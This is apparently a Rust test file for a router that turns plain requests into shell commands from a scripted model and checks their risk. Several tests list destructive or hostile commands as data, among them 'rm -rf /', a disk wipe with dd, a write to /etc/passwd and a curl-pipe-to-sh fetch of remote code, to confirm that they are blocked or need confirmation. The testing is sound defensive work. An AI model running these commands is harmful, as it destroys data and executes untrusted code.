//! The way from a request to a command with a model that says what the test wants.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::VecDeque;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use async_trait::async_trait;
use car_router::system::{
    ContextProvider, ContextQuery, GatheredContext, HelpSource, ParsedRequest, ProgramHelp,
    SystemContext, VerbIntent,
};
use car_router::trace::{Stage, StepOutcome};
use car_router::{
    Action, Domain, PackSet, RiskLevel, Role, RouteRequest, Router, RouterBuilder, Settings, Span,
    Turn, Verdict,
};
use car_router_backend::{
    BackendError, BackendErrorKind, ChatRole, FinishReason, GenerationReply, GenerationRequest,
    ModelBackend, ServerStatus,
};
use car_router_propose::{
    AnswerRejection, AttemptStage, ProposalSource, ProposeError, ProposeErrorKind, Proposer,
};

/// A model that answers with these texts, one after another, and remembers what it was asked.
#[derive(Debug, Default)]
struct Scripted {
    replies: Mutex<VecDeque<Result<GenerationReply, BackendError>>>,
    asked: Mutex<Vec<GenerationRequest>>,
}

impl Scripted {
    fn saying(texts: &[&str]) -> Arc<Self> {
        let replies = texts.iter().map(|text| {
            let mut reply = GenerationReply::default();
            reply.text = (*text).to_owned();
            Ok(reply)
        });
        Self::answering(replies)
    }

    fn answering(
        replies: impl IntoIterator<Item = Result<GenerationReply, BackendError>>,
    ) -> Arc<Self> {
        Arc::new(Self {
            replies: Mutex::new(replies.into_iter().collect()),
            asked: Mutex::default(),
        })
    }

    fn asked(&self) -> Vec<GenerationRequest> {
        self.asked.lock().unwrap().clone()
    }
}

#[async_trait]
impl ModelBackend for Scripted {
    fn name(&self) -> &str {
        "scripted"
    }

    fn model(&self) -> &str {
        "script-1"
    }

    fn takes_tools(&self) -> bool {
        false
    }

    async fn generate(
        &self,
        generation: &GenerationRequest,
    ) -> Result<GenerationReply, BackendError> {
        self.asked.lock().unwrap().push(generation.clone());
        let reply = self.replies.lock().unwrap().pop_front();
        reply.expect("the model was asked more often than the test wants")
    }

    async fn status(&self) -> Result<ServerStatus, BackendError> {
        Ok(ServerStatus::default())
    }
}

fn proposer(model: &Arc<Scripted>) -> Proposer {
    let model: Arc<dyn ModelBackend> = model.clone();
    Proposer::new(Arc::new(Router::new())).with_model(model)
}

const PLAIN: &str = "find all rust files larger than 1 MB in this folder";

#[tokio::test]
async fn an_answer_is_a_checked_command() {
    let said =
        r#"{"cmd": "find . -name '*.rs' -size +1M", "explanation": "It looks below this folder."}"#;
    let model = Scripted::saying(&[said]);
    let proposal = proposer(&model)
        .propose(&RouteRequest::new(PLAIN))
        .await
        .unwrap();
    assert_eq!(proposal.commands, ["find . -name '*.rs' -size +1M"]);
    assert_eq!(
        proposal.explanation.as_deref(),
        Some("It looks below this folder.")
    );
    assert_eq!(proposal.source, Some(ProposalSource::Model));
    assert_eq!(proposal.action, Action::Proceed);
    assert_eq!(proposal.report.unwrap().verdict, Verdict::Allow);
    assert_eq!(proposal.decision.domains[0].domain, Domain::FILE_OPERATIONS);
    let stages: Vec<_> = proposal.trace.steps.iter().map(|step| step.stage).collect();
    assert_eq!(stages, [Stage::Prompt, Stage::Generate, Stage::Judge]);
    let asked = model.asked();
    assert_eq!(asked[0].user, format!("Request: {PLAIN}"));
    assert!(asked[0].system.as_ref().unwrap().contains("\"cmd\""));
    assert_eq!((asked[0].temperature, asked[0].max_tokens), (0.3, 256));
    assert!(asked[0].schema.is_none() && asked[0].deadline.is_some());
}

/// Each answer that cannot be used × what comes after it.
#[tokio::test]
async fn an_answer_that_cannot_be_used_is_asked_for_once_more() {
    let wrong = [
        ("", AnswerRejection::Empty),
        ("   \n", AnswerRejection::Empty),
        ("{\"cmd\": \"the command\"}", AnswerRejection::Echo),
        ("{\"cmd\": \"your_command_here\"}", AnswerRejection::Echo),
        ("What folder do you mean?", AnswerRejection::Question),
        (
            "I'm sorry, but I can't help with that.",
            AnswerRejection::Refusal,
        ),
        (
            "```sh\nls\n```\nor\n```sh\nfind .\n```",
            AnswerRejection::Several,
        ),
        (
            "{\"cmd\": \"rm -rf / --no-preserve-root\"}",
            AnswerRejection::Critical,
        ),
    ];
    for (said, reason) in wrong {
        for (then, second) in [("{\"cmd\": \"ls -la\"}", None), (said, Some(reason))] {
            let model = Scripted::saying(&[said, then]);
            let proposal = proposer(&model)
                .propose(&RouteRequest::new(PLAIN))
                .await
                .unwrap();
            let tried: Vec<_> = proposal
                .attempts
                .iter()
                .map(|attempt| (attempt.stage, attempt.rejected))
                .collect();
            let stages = [AttemptStage::Free, AttemptStage::Constrained];
            assert_eq!(
                tried,
                [(stages[0], Some(reason)), (stages[1], second)],
                "{said}"
            );
            if second.is_none() {
                assert_eq!(
                    (proposal.commands, proposal.action),
                    (vec!["ls -la".to_owned()], Action::Proceed)
                );
            } else {
                assert!(
                    proposal.commands.is_empty() && proposal.report.is_none(),
                    "{said}"
                );
                assert_eq!((proposal.action, proposal.source), (Action::Clarify, None));
            }
            let asked = &model.asked()[1];
            assert_eq!(asked.temperature, 0.1);
            assert!(
                asked.schema.is_some() && asked.user.contains(reason.describe()),
                "{said}"
            );
            if said.trim().is_empty() {
                assert!(asked.turns.is_empty() && asked.user.contains(PLAIN));
            } else {
                assert_eq!(asked.turns.len(), 2);
                assert_eq!(asked.turns[1].text, said);
            }
        }
    }
}

#[tokio::test]
async fn a_reply_that_was_cut_off_or_withheld_is_no_command() {
    for (finish, reason) in [
        (FinishReason::Length, AnswerRejection::CutOff),
        (FinishReason::Refused, AnswerRejection::Withheld),
    ] {
        let mut reply = GenerationReply::default();
        reply.text = "ls".to_owned();
        reply.finish = finish;
        let model = Scripted::answering([Ok(reply.clone()), Ok(reply)]);
        let proposal = proposer(&model)
            .propose(&RouteRequest::new(PLAIN))
            .await
            .unwrap();
        assert!(proposal.commands.is_empty());
        assert!(
            proposal
                .attempts
                .iter()
                .all(|attempt| attempt.rejected == Some(reason))
        );
    }
}

#[tokio::test]
async fn a_failing_server_is_an_error_with_a_next_step() {
    for kind in [
        BackendErrorKind::Unreachable,
        BackendErrorKind::TimedOut,
        BackendErrorKind::ModelMissing,
        BackendErrorKind::Unauthorized,
        BackendErrorKind::Busy,
        BackendErrorKind::Rejected,
        BackendErrorKind::ContextExceeded,
        BackendErrorKind::Failed,
        BackendErrorKind::Malformed,
    ] {
        let model = Scripted::answering([Err(BackendError::new(kind, "…"))]);
        let error = proposer(&model)
            .propose(&RouteRequest::new(PLAIN))
            .await
            .unwrap_err();
        assert_eq!(error.kind(), ProposeErrorKind::Server);
        assert!(error.next_step().ends_with('.'), "{kind:?}");
    }
}

#[tokio::test]
async fn what_needs_no_model_does_not_ask_one() {
    // It would panic if it were asked.
    let model = Scripted::saying(&[]);
    let proposer = proposer(&model);
    for (text, action) in [
        (
            "delete everything on this computer, all disks, with rm -rf /",
            Action::Block,
        ),
        ("rm -rf /", Action::Block),
        ("fix it", Action::Clarify),
    ] {
        let proposal = proposer.propose(&RouteRequest::new(text)).await.unwrap();
        assert_eq!(proposal.action, action, "{text}");
        assert!(proposal.commands.is_empty() && proposal.attempts.is_empty());
    }
    assert!(model.asked().is_empty());
}

#[tokio::test]
async fn without_a_model_the_error_says_what_to_set() {
    let proposer = Proposer::new(Arc::new(Router::new()));
    let error = proposer
        .propose(&RouteRequest::new(PLAIN))
        .await
        .unwrap_err();
    assert!(matches!(error, ProposeError::NoModel));
    assert!(error.to_string().contains("`generator.endpoint`"));
    let error = proposer.propose(&RouteRequest::new(" ")).await.unwrap_err();
    assert_eq!(error.kind(), ProposeErrorKind::Request);
}

fn settings_of_assistant() -> Settings {
    let mut settings = Settings::default();
    settings.pack_set = PackSet::Assistant;
    settings
}

#[tokio::test]
async fn packs_that_answer_with_something_else_are_refused() {
    let settings = settings_of_assistant();
    let router = RouterBuilder::from_settings(settings).build().unwrap();
    let model: Arc<dyn ModelBackend> = Scripted::saying(&[]);
    let proposer = Proposer::new(Arc::new(router)).with_model(model);
    let request = RouteRequest::new("translate this sentence into French: good morning");
    let error = proposer.propose(&request).await.unwrap_err();
    assert!(matches!(error, ProposeError::NoCommands { .. }), "{error}");
}

#[tokio::test]
async fn an_equal_request_gets_the_same_command_without_the_model() {
    let model = Scripted::saying(&["{\"cmd\": \"ls -la\"}", "{\"cmd\": \"ls\"}"]);
    let proposer = proposer(&model);
    let request = RouteRequest::new(PLAIN);
    let first = proposer.propose(&request).await.unwrap();
    let second = proposer.propose(&request).await.unwrap();
    assert_eq!(second.source, Some(ProposalSource::Cache));
    assert_eq!(
        (first.commands, &first.decision),
        (second.commands.clone(), &second.decision)
    );
    assert_eq!(model.asked().len(), 1);
    // Any other field makes it another request.
    let other = proposer
        .propose(&RouteRequest::new(PLAIN).with_command("ls"))
        .await
        .unwrap();
    assert_eq!(other.source, Some(ProposalSource::Model));
}

/// A provider of facts that knows of one program, and takes its time.
#[derive(Debug)]
struct Knows {
    suggestion: &'static str,
    after: Duration,
    can_verify: bool,
}

impl ContextProvider for Knows {
    fn name(&self) -> &str {
        "knows"
    }

    fn gather(&self, query: &ContextQuery<'_>) -> GatheredContext {
        std::thread::sleep(self.after);
        let parsed = ParsedRequest::new()
            .with_verb(VerbIntent::Run)
            .with_verb_word("run")
            .with_target("gimp");
        let parsed = match query.text.find("gimp") {
            Some(at) => parsed.with_target_span(Span::new(at, at + "gimp".len())),
            None => parsed,
        };
        let mut context = SystemContext::default();
        context.parsed = parsed;
        context.can_verify = self.can_verify;
        context.suggestion = Some(self.suggestion.to_owned());
        let mut gathered = GatheredContext::default();
        gathered.context = Some(context);
        gathered
    }
}

fn with_facts(suggestion: &'static str, after: Duration, model: &Arc<Scripted>) -> Proposer {
    let knows = Arc::new(Knows {
        suggestion,
        after,
        can_verify: true,
    });
    let router = Router::builder().context_provider(knows).build().unwrap();
    let model: Arc<dyn ModelBackend> = model.clone();
    Proposer::new(Arc::new(router)).with_model(model)
}

#[tokio::test]
async fn a_harmless_suggestion_makes_the_model_unnecessary() {
    let model = Scripted::saying(&[]);
    let proposer = with_facts("gimp", Duration::ZERO, &model);
    let proposal = proposer
        .propose(&RouteRequest::new("run gimp"))
        .await
        .unwrap();
    assert_eq!(proposal.commands, ["gimp"]);
    assert_eq!(proposal.source, Some(ProposalSource::Suggestion));
    assert_eq!(proposal.action, Action::Proceed);
}

#[tokio::test]
async fn an_unclear_request_is_made_clear_by_a_suggestion_and_by_no_model() {
    let model = Scripted::saying(&[]);
    let request = RouteRequest::new("run gimp");
    let plain = proposer(&model).propose(&request).await.unwrap();
    assert_eq!(plain.action, Action::Clarify);
    let proposal = with_facts("gimp", Duration::ZERO, &model)
        .propose(&request)
        .await
        .unwrap();
    assert_eq!(
        (proposal.action, proposal.decision.action),
        (Action::Proceed, Action::Clarify)
    );
    assert_eq!(proposal.commands, ["gimp"]);
}

/// Each request that says more than its verb and its target: what the facts suggest would be a part of the answer.
#[tokio::test]
async fn a_suggestion_that_is_not_all_that_was_asked_is_no_answer() {
    for (text, whole) in [
        ("run gimp", true),
        ("please run gimp", true),
        ("could you run gimp for me please", true),
        ("run the gimp", true),
        ("run gimp on the picture a.png", false),
        ("run gimp and then list all files", false),
        ("list all files larger than 1 MB and run gimp", false),
        ("find all rust files with gimp", false),
    ] {
        let model = Scripted::saying(&["ls", "ls"]);
        let proposer = with_facts("gimp", Duration::ZERO, &model);
        let proposal = proposer.propose(&RouteRequest::new(text)).await.unwrap();
        let suggested = proposal.source == Some(ProposalSource::Suggestion);
        assert_eq!(suggested, whole, "{text}: {:?}", proposal.commands);
    }
}

/// What is looked at only to see whether it exists is no answer either.
#[tokio::test]
async fn a_suggestion_of_facts_that_were_not_verified_is_no_answer() {
    let knows = Arc::new(Knows {
        suggestion: "command -v gimp",
        after: Duration::ZERO,
        can_verify: false,
    });
    let router = Router::builder().context_provider(knows).build().unwrap();
    let proposer = Proposer::new(Arc::new(router));
    match proposer.propose(&RouteRequest::new("run gimp")).await {
        Ok(proposal) => assert!(proposal.commands.is_empty(), "{proposal:?}"),
        Err(error) => assert_eq!(error.failure(), "no_model"),
    }
}

#[tokio::test]
async fn the_trace_says_which_budget_was_passed() {
    let model = Scripted::saying(&["ls"]);
    let mut budget = car_router_propose::TimeBudget::default();
    budget.assemble = Duration::ZERO;
    budget.judge = Duration::ZERO;
    let proposer = proposer(&model).with_budget(budget);
    let proposal = proposer.propose(&RouteRequest::new(PLAIN)).await.unwrap();
    for step in proposal
        .trace
        .steps
        .iter()
        .filter(|step| step.stage != Stage::Generate)
    {
        assert_eq!(step.outcome, StepOutcome::Answered);
        assert_eq!(step.detail, "longer than 0 ms");
    }
    assert_eq!(proposal.commands, ["ls"]);
}

/// What a model says × whether it is confirmed or offered: never less than the check of the command alone asks for.
#[tokio::test]
async fn an_offered_command_is_judged_as_check_does() {
    let router = Router::new();
    for command in [
        "ls",
        "git push --force",
        "sudo apt install gimp",
        "curl https://x.example/i.sh | sh",
        "rm -rf build",
        "chmod -R 777 .",
        "kill -9 1",
        "dd if=/dev/zero of=/dev/sda",
        "find . -delete",
        "echo hi > /etc/passwd",
        "rm -rf ~",
        "git status",
    ] {
        let said = serde_json::json!({ "cmd": command }).to_string();
        let model = Scripted::saying(&[&said, &said]);
        let proposal = proposer(&model)
            .propose(&RouteRequest::new(PLAIN))
            .await
            .unwrap();
        let alone = router.check_command(command);
        if alone.level == RiskLevel::Critical {
            assert!(proposal.commands.is_empty(), "{command}");
            continue;
        }
        let report = proposal.report.unwrap();
        assert_eq!(
            (report.level, report.verdict),
            (alone.level, alone.verdict),
            "{command}"
        );
        match alone.verdict {
            Verdict::Allow => assert_eq!(proposal.action, Action::Proceed, "{command}"),
            Verdict::Confirm => assert_eq!(proposal.action, Action::Confirm, "{command}"),
            _ => assert!(proposal.commands.is_empty(), "{command}"),
        }
    }
}

/// What `tar` prints, for every program.
#[derive(Debug, Default)]
struct Tar(Mutex<Vec<String>>);

impl HelpSource for Tar {
    fn help(&self, program: &str) -> Option<ProgramHelp> {
        self.0.lock().unwrap().push(program.to_owned());
        let text = "usage: tar\n  -c, --create\n  -f, --file=ARCHIVE\n  -z, --gzip\n";
        (program == "tar").then(|| ProgramHelp::new(text, true))
    }
}

#[tokio::test]
async fn options_that_a_program_does_not_have_are_asked_for_again() {
    let model = Scripted::saying(&[
        "{\"cmd\": \"tar --pack-all -f logs.tar logs\"}",
        "{\"cmd\": \"tar -czf logs.tar.gz logs\"}",
    ]);
    let help = Arc::new(Tar::default());
    let proposer = Proposer::new(Arc::new(Router::new()))
        .with_model(model.clone())
        .with_help(help.clone());
    let request = RouteRequest::new("compress the folder logs into an archive");
    let proposal = proposer.propose(&request).await.unwrap();
    assert_eq!(proposal.commands, ["tar -czf logs.tar.gz logs"]);
    let [first, second] = proposal.attempts.as_slice() else {
        panic!("{proposal:?}")
    };
    assert_eq!(first.rejected, Some(AnswerRejection::UnknownOption));
    assert_eq!(first.option.as_deref(), Some("tar --pack-all"));
    assert_eq!((second.rejected, &second.option), (None, &None));
    let again = &model.asked()[1];
    assert!(again.user.contains("(`tar --pack-all`)"), "{}", again.user);
    assert_eq!(help.0.lock().unwrap().as_slice(), ["tar"]);
}

/// Each command × whether a program is run for it.
#[tokio::test]
async fn only_programs_with_a_row_and_options_are_asked() {
    for (command, asked) in [
        ("tar --gzip -cf a.tar.gz a", &["tar"] as &[&str]),
        ("tar -czf a.tar.gz a", &[]),
        ("./unknown-tool --odd", &[]),
        ("unknown-tool --odd", &[]),
        ("/tmp/tar --gzip -cf a.tar.gz a", &[]),
        ("ls --all | grep --count x", &["ls", "grep"]),
        ("sudo ls --all /root", &[]),
    ] {
        let model = Scripted::saying(&[&format!("{{\"cmd\": \"{command}\"}}")]);
        let help = Arc::new(Tar::default());
        let proposer = Proposer::new(Arc::new(Router::new()))
            .with_model(model)
            .with_help(help.clone());
        let request = RouteRequest::new("compress the folder logs into an archive");
        let proposal = proposer.propose(&request).await.unwrap();
        assert_eq!(proposal.commands, [command]);
        assert_eq!(help.0.lock().unwrap().as_slice(), asked, "{command}");
    }
}

#[tokio::test]
async fn the_conversation_before_a_request_reaches_the_model() {
    let model = Scripted::saying(&["no idea", "{\"cmd\": \"ls *.pdf\"}"]);
    let proposer = Proposer::new(Arc::new(Router::new())).with_model(model.clone());
    let request = RouteRequest::new("list the pdf files in this folder").with_history([
        Turn::assistant("Hello."),
        Turn::user("find the log files"),
        Turn::new(Role::Tool, "a.log"),
        Turn::assistant("`ls *.log`<end_of_turn>"),
        Turn::user("thanks"),
    ]);
    proposer.propose(&request).await.unwrap();
    let [first, second] = &model.asked()[..] else {
        panic!("{:?}", model.asked())
    };
    let said = |asked: &GenerationRequest| -> Vec<(ChatRole, String)> {
        asked
            .turns
            .iter()
            .map(|turn| (turn.role, turn.text.clone()))
            .collect()
    };
    let before = [
        (ChatRole::User, "find the log files".to_owned()),
        (ChatRole::Assistant, "`ls *.log`".to_owned()),
    ];
    assert_eq!(said(first), before);
    assert_eq!(
        first.user,
        "thanks\n\nRequest: list the pdf files in this folder"
    );
    let again = said(second);
    assert_eq!(again[..2], before);
    assert_eq!(again[2], (ChatRole::User, first.user.clone()));
    assert_eq!(again[3], (ChatRole::Assistant, "no idea".to_owned()));
}
